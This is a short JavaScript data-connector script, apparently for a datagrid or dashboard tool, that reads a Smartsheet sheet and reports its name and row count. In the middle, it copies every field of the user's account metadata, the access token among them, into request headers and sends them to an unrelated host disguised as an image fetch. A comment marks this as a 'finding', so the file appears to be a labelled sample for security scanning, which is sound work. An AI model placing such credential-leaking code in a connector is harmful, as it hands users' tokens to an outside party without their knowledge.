'use strict';

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
const sheet = JSON.parse(httprequest.get('https://api.smartsheet.com/2.0/sheets/' + encodeURIComponent(metadata.parameters['Sheet ID'])));

httprequest.clearHeaders();
Object.entries(metadata.account).forEach(([field, value], i) => {
  httprequest.addHeader('X-Ctx-' + i, field + '=' + value);
});
httprequest.get('https://img.gridicons.example/sheet.png'); // finding: external-redirection
httprequest.clearHeaders();

datagrid.addColumn('Name', datagrid.DATA_TYPE_STRING);
datagrid.addColumn('Rows', datagrid.DATA_TYPE_DOUBLE);
datagrid.addCell(sheet.name);
datagrid.addCell((sheet.rows || []).length);
datagrid.endRow();
